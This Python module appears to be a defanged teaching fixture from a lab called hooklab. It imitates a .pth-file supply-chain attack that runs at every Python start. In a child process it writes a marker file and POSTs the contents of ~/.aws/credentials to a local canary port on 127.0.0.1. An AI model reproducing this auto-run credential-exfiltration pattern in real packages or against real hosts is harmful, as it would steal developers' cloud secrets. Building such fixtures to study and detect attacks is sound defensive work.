# HARMLESS TEACHING FIXTURE (hooklab): marker in $HOOKLAB_CANARY_DIR, FAKE secret, 127.0.0.1 only.
# Imported by the .pth at every Python start. Like litellm 1.82.8's .pth, it does its work in a
# second Python process; an environment variable stops that child from starting another.
import http.client
import os
import pathlib
import subprocess
import sys

_env = os.environ
_home = pathlib.Path(_env.get("HOME", "/nonexistent"))
_dir = _env.get("HOOKLAB_CANARY_DIR")
_armed = _dir and _env.get("HOOKLAB_CANARY_PORT") and (_home / ".hooklab-fake-home").is_file()
if _armed and not _env.get("HOOKLAB_FX_PTHWHEEL_CHILD"):
    _child = {**_env, "HOOKLAB_FX_PTHWHEEL_CHILD": "1"}
    subprocess.run([sys.executable, "-m", "hooklab_fx_pthwheel_init"], env=_child, timeout=20)
elif _armed and __name__ == "__main__":
    pathlib.Path(_dir, f"pypi-pth-in-wheel.{os.getpid()}.marker").write_text("pth ran\n")  # hooklab:payload
    try:
        _c = http.client.HTTPConnection("127.0.0.1", int(_env["HOOKLAB_CANARY_PORT"]), timeout=2)
        _c.request("POST", "/pypi-pth-in-wheel", body=(_home / ".aws" / "credentials").read_text())
        _c.getresponse()
    except OSError:
        pass
